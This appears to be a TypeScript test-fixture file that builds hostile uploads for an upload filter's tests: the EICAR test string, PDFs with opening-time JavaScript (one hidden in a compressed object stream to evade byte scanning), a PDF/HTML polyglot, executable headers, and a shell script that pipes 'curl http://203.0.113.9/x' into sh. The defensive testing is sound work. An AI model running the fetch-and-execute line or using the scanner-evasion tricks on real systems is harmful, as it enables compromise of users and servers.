// Hostile uploads, built in code so that nothing harmful is committed: the EICAR anti-virus test
// string (harmless by design; written in two halves so the source itself is not flagged), PDFs
// with active content, a PDF/HTML polyglot and program headers. Used by lib/files/*.test.ts and
// tests/integration/hostile-uploads.test.ts; the clean PDF and JPEG are the controls.
import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "pdf-lib";
import sharp from "sharp";

export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/** A PDF whose objects are given as text, with the header, the trailer and the end marker. */
export function pdfOf(objects: string[], trailer = "<</Root 1 0 R>>"): Buffer {
  const body = objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj\n`).join("");
  return Buffer.from(`%PDF-1.4\n%\xE2\xE3\xCF\xD3\n${body}trailer\n${trailer}\n%%EOF\n`, "latin1");
}

const CATALOG = "<</Type/Catalog/Pages 2 0 R>>";
const PAGES = "<</Type/Pages/Kids[]/Count 0>>";

/** A PDF that opens on page one: a destination, not an action; it must pass. */
export const pdfOpeningAtAPage = () =>
  pdfOf([
    "<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
  ]);

export const eicarPlain = () => Buffer.from(EICAR);

/** The EICAR string as the text of a page's content stream, in an otherwise ordinary PDF. */
export const eicarInPdf = () =>
  pdfOf([
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
    `<</Length ${EICAR.length}>>\nstream\n${EICAR}\nendstream`,
  ]);

/** The classic: a script that runs when the document opens. */
export const pdfWithOpenActionJavaScript = () =>
  pdfOf(["<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('x'\\))>>>>", PAGES]);

/**
 * The same script, hidden in a compressed object stream (/Type /ObjStm, FlateDecode): no
 * "/JavaScript" appears in the file's bytes; only a parser that unpacks the stream sees it.
 */
export function pdfWithJavaScriptInObjectStream(): Buffer {
  const packed = ["<</Type/Catalog/Pages 4 0 R/OpenAction 3 0 R>>", "<</S/JavaScript/JS(app.alert\\('x'\\))>>"];
  const header = `2 0 3 ${packed[0].length + 1} `;
  const data = deflateSync(Buffer.from(header + packed.join(" ")));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 2/First ${header.length}/Filter/FlateDecode/Length ${data.length}>>\nstream\n`,
    ),
    data,
    Buffer.from(`\nendstream\nendobj\n4 0 obj\n${PAGES}\nendobj\ntrailer\n<</Root 2 0 R>>\n%%EOF\n`),
  ]);
}

/** A file that is a PDF to a reader and a page with a script to a browser that sniffs it. */
export const pdfHtmlPolyglot = () =>
  Buffer.concat([
    Buffer.from("%PDF-1.4\n%<html><body><script>fetch('/api/attachments').then(r=>r.text())</script></body></html>\n"),
    pdfOf([CATALOG, PAGES]).subarray("%PDF-1.4\n".length),
  ]);

/** A Windows program (MZ header), named like a scan by whoever sends it. */
export const windowsExecutable = () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(510, 0x90)]);
export const linuxExecutable = () =>
  Buffer.concat([Buffer.from("7f454c46020101000000000000000000", "hex"), Buffer.alloc(240)]);
export const shellScript = () => Buffer.from("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n");

/** Controls: a real one-page PDF with text, and a real JPEG. */
export async function cleanPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText("Giay chung sinh - ban scan", {
    x: 50,
    y: 780,
    size: 14,
    font: await doc.embedFont(StandardFonts.Helvetica),
  });
  return Buffer.from(await doc.save());
}

export const cleanJpeg = () =>
  sharp({ create: { width: 16, height: 16, channels: 3, background: { r: 200, g: 30, b: 30 } } })
    .jpeg()
    .toBuffer();

/** The hostile set every upload path must refuse, with what the user reads. */
export const HOSTILE = [
  { name: "EICAR, plain", bytes: eicarPlain, refusal: "malware" },
  { name: "EICAR inside a PDF", bytes: eicarInPdf, refusal: "malware" },
  { name: "a PDF with /OpenAction /JavaScript", bytes: pdfWithOpenActionJavaScript, refusal: "active" },
  {
    name: "a PDF with JavaScript in a compressed object stream",
    bytes: pdfWithJavaScriptInObjectStream,
    refusal: "active",
  },
  { name: "a PDF/HTML polyglot", bytes: pdfHtmlPolyglot, refusal: "polyglot" },
  { name: "a Windows executable", bytes: windowsExecutable, refusal: "type" },
  { name: "a Linux executable", bytes: linuxExecutable, refusal: "type" },
  { name: "a shell script", bytes: shellScript, refusal: "type" },
] as const;
